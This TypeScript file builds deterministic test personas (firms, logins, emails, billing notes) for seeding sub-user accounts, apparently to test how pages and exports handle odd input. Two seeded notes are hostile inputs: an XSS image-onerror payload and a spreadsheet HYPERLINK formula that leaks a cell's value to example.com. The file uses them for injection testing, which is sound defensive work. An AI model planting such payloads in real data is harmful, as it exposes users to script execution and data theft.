import { dice, type Dice } from "./dice";

/** Who a seeded sub-user is for. The same index always gives the same person. */
export interface Persona {
  firm: string;
  /** Login name, unique among the first hundred thousand and more. */
  login: string;
  email: string;
  note: string;
  roll: Dice;
}

const FIRMS = [
  "Acme Data",
  "Nordlicht SEO",
  "Vela Retail",
  "Brightloop",
  "Kestrel Analytics",
  "Pricewise",
  "Hargreaves & Sons",
  "Tidewater Travel",
  "Fjord Insights",
  "Ombra Studio",
  "Lumen Market Research",
  "Casa Verde",
  "Quill & Co",
  "Redwood Ticketing",
  "Sable Security",
  "Mirador",
  "Pixelfarm",
  "Orchard Ads",
  "Halcyon Hotels",
  "Zürich Preisvergleich",
  "Société Dubois",
  "Bluefin Sneakers",
  "Marigold Media",
  "Granite Feeds",
  "Copperline",
  "Delta Fare Watch",
  "Juniper Labs",
  "Northgate Brand",
  "Saffron Commerce",
  "Tallinn Scrape Co",
  "Umbrella Reviews",
  "Wavecrest",
  "Yarrow Health",
  "Atlas Parts",
  "Blackbird PR",
  "Corvus Intelligence",
  "Driftwood",
  "Everly Fashion",
  "Foxglove",
  "Gilded Rank",
] as const;

const PURPOSES = [
  "scraping",
  "adcheck",
  "seo",
  "prices",
  "serp",
  "travel",
  "tickets",
  "retail",
  "brand",
  "qa",
  "prod",
  "staging",
  "trial",
  "social",
  "reviews",
  "stock",
  "maps",
  "jobs",
  "feeds",
  "backup",
] as const;

const FIRST_NAMES = [
  "anna",
  "ben",
  "carla",
  "dmitri",
  "elif",
  "farid",
  "grace",
  "hugo",
  "ines",
  "jonas",
  "keiko",
  "liam",
  "marta",
  "noor",
  "olga",
  "pedro",
  "quinn",
  "rosa",
  "sven",
  "tomas",
  "uma",
  "viktor",
  "wei",
  "yusuf",
] as const;

const NOTES = [
  "Trial until Friday",
  "Net 30, pays late",
  "Annual contract, review in March",
  "Do not disable without a call",
  "VIP: ask Marta first",
  "Moved from the old plan",
  "Only US and DE traffic",
  "Second account of the same firm",
  "Pays by bank transfer",
  "Paused over the summer",
  "Price agreed by phone: 2.10 per GB",
  "Asked for more IPs",
  "Test account, delete after launch",
  "Upgrade offered, waiting for an answer",
  "Complained about speed on 3 May",
  "顧客: 東京オフィス",
  "Client à facturer séparément",
  "Kündigung zum Quartalsende",
  "Renovación automática ✅",
  "🔥 top client",
  "عميل جديد - الدفع شهري",
  "Большой клиент, звонить утром",
] as const;

// Text that a careless page or spreadsheet would run, and text that breaks a layout.
const SPECIAL_NOTES = new Map([
  [4, "<b>Important</b> <img src=x onerror=alert(1)>"],
  [7, '=HYPERLINK("http://example.com/?leak="&A1,"Invoice")'],
  [11, "شركة المدار - تجديد في أول الشهر"],
  [15, `Long note: ${"renewal terms, contacts and exceptions agreed with the client; ".repeat(6).trim()}`],
  [19, "Café Münchën, crème brûlée 🍮 — naïve façade"],
  [23, "Line one\nLine two, after a break"],
]);

const LONG_LOGINS = new Map([
  [13, "consolidated_international_market_intelligence_and_price_monitoring_division_emea_01"],
  [29, "the_quite_remarkably_long_customer_name_that_somebody_really_typed_in_full_2024"],
  [57, "Donaudampfschifffahrtselektrizitaetenhauptbetriebswerkbauunterbeamtengesellschaft_1"],
]);

const slug = (text: string) =>
  text
    .normalize("NFD")
    .replace(/[^\x20-\x7e]/g, "")
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "_");

function loginOf(roll: Dice, firm: string, serial: string): string {
  const short = slug(firm).split("_")[0] ?? "client";
  const purpose = roll.pick(PURPOSES);
  const style = roll.next();
  if (style < 0.55) return `${short}_${purpose}_${serial}`;
  if (style < 0.75) return `${slug(firm)}_${serial}`;
  if (style < 0.9) return `${short}${purpose}${serial}`;
  if (style < 0.96) return `${purpose.charAt(0).toUpperCase()}${purpose.slice(1)}_${short}_${serial}`;
  return `${purpose}-${roll.pick(["us", "uk", "de", "fr", "jp"])}-${serial}`;
}

function noteOf(roll: Dice): string {
  const style = roll.next();
  if (style < 0.35) return "";
  if (style < 0.6)
    return `Invoice ${roll.int(1200, 4800)}, renews ${roll.pick(["1st", "5th", "15th", "28th"])}`;
  return roll.pick(NOTES);
}

/** Everyone from index 0 up to, without, `count`. */
export function* personas(count: number): Generator<Persona> {
  const taken = new Set<string>();
  for (let index = 0; index < count; index += 1) {
    const roll = dice(7_000 + index);
    const firm = roll.pick(FIRMS);
    let login = LONG_LOGINS.get(index) ?? loginOf(roll, firm, String(roll.int(1, 60)).padStart(2, "0"));
    if (taken.has(login.toLowerCase())) login = `${login}_${index}`;
    taken.add(login.toLowerCase());
    const domain = `${slug(firm).replaceAll("_", "-")}.example`;
    const note = SPECIAL_NOTES.get(index) ?? noteOf(roll);
    yield { firm, login, email: `${roll.pick(FIRST_NAMES)}.${index + 1}@${domain}`, note, roll };
  }
}

const LETTERS = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";

export function rollPassword(roll: Dice): string {
  return Array.from({ length: 12 }, () => LETTERS[roll.int(0, LETTERS.length - 1)]).join("");
}
